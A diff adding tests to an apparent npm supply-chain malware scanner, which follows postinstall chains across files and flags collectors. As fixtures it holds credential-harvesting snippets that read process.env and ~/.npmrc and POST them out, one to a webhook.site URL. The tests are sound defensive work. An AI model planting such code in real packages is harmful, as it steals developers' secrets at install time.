@@ -298,6 +298,36 @@ module.exports = { hooks: { readPackage } };
     expect(analyze(snapshotOf(preinstall, setup, added('dist/bun_environment.js', obfuscated))).findings.filter((f) => f.id === 'obfuscated-code').map((f) => [f.path, f.severity])).toEqual([['dist/bun_environment.js', 'high']]);
   });
 
+  it('follows the install chain up to four files deep, each started by the one before or a module it adds and loads', () => {
+    const postinstall = change('package.json', pkg({}), pkg({ scripts: { postinstall: 'node scripts/setup.js' } }));
+    const harvest = "const data = { env: process.env, npmrc: fs.readFileSync(os.homedir() + '/.npmrc', 'utf8') };\nfetch('https://api.github.com/user/repos', { method: 'POST', body: JSON.stringify(data) });";
+    const found = (...files: Parameters<typeof snapshotOf>) => analyze(snapshotOf(...files)).findings.filter((f) => f.id === 'build-code-behavior').map((f) => [f.path, f.severity, f.title]);
+    // setup.js -> lib/index.js (loaded) -> lib/collect.js (loaded): the third file.
+    expect(found(postinstall, added('scripts/setup.js', "require('./lib/index.js');"), added('scripts/lib/index.js', "require('./collect.js');"), added('scripts/lib/collect.js', harvest))).toEqual([
+      ['scripts/lib/collect.js', 'critical', 'postinstall script of package.json (through scripts/lib/index.js) sends credentials or the environment to a host at npm install time'],
+    ]);
+    // setup.js -> a.js (spawned) -> b.js (loaded) -> c.js (run by a command string): the fourth file.
+    const chain = [added('scripts/setup.js', "require('child_process').spawn('node', [require('path').join(__dirname, 'a.js')], { detached: true });"), added('scripts/a.js', "require('./b.js');"), added('scripts/b.js', "require('child_process').execSync('node scripts/c.js');")];
+    expect(found(postinstall, ...chain, added('scripts/c.js', harvest))).toEqual([['scripts/c.js', 'critical', expect.any(String)]]);
+    // A fifth file is past the bound.
+    expect(found(postinstall, ...chain.slice(0, 2), added('scripts/b.js', "require('./c.js');"), added('scripts/c.js', "require('./d.js');"), added('scripts/d.js', harvest))).toEqual([]);
+  });
+
+  it('reads a module of the package that the chain loads and the PR changes for a collector only: a paste, tunnel or webhook host or a bare IP', () => {
+    const postinstall = change('package.json', pkg({}), pkg({ scripts: { postinstall: 'node scripts/postinstall.js' } }));
+    const found = (...files: Parameters<typeof snapshotOf>) => analyze(snapshotOf(...files)).findings.filter((f) => f.id === 'build-code-behavior' || f.id === 'suspicious-network-endpoint').map((f) => [f.id, f.path, f.severity, f.detail.includes('at npm install time')]);
+    const modified = (path: string, line: string) => makeFile(path, { status: 'modified', additions: 1, patch: `@@ -1,1 +1,2 @@\n module.exports = {};\n+${line}` });
+    const collect = "fetch('https://webhook.site/3f2a9c0d-1e4b-4a6f-9c8d-0e1f2a3b4c5d', { method: 'POST', body: JSON.stringify(process.env) });";
+    expect(found(postinstall, added('scripts/postinstall.js', "require('../lib/telemetry.js');"), modified('lib/telemetry.js', collect))).toEqual([
+      ['build-code-behavior', 'lib/telemetry.js', 'critical', true],
+      ['suspicious-network-endpoint', 'lib/telemetry.js', 'high', true],
+    ]);
+    // Its own service with its own token is the library's work.
+    expect(found(postinstall, added('scripts/postinstall.js', "require('../lib/telemetry.js');"), modified('lib/telemetry.js', "fetch('https://api.acme.dev/v1/usage', { method: 'POST', body: JSON.stringify({ token: process.env.ACME_TOKEN }) });"))).toEqual([]);
+    // The same module, no install script loading it.
+    expect(found(change('package.json', pkg({}), pkg({ scripts: { build: 'node scripts/postinstall.js' } })), added('scripts/postinstall.js', "require('../lib/telemetry.js');"), modified('lib/telemetry.js', collect)).map((f) => f.slice(0, 2))).toEqual([['suspicious-network-endpoint', 'lib/telemetry.js']]);
+  });
+
   it('raises a worm\'s or a stealer\'s medium shape to high in a file the install chain runs, and says so; elsewhere it stays medium', () => {
     const register = "const { data } = await octokit.rest.actions.createRegistrationTokenForRepo({ owner, repo });";
     const persistence = (...files: Parameters<typeof snapshotOf>) => analyze(snapshotOf(...files)).findings.filter((f) => f.id === 'github-persistence').map((f) => [f.path, f.severity, f.detail.includes('at npm install time')]);
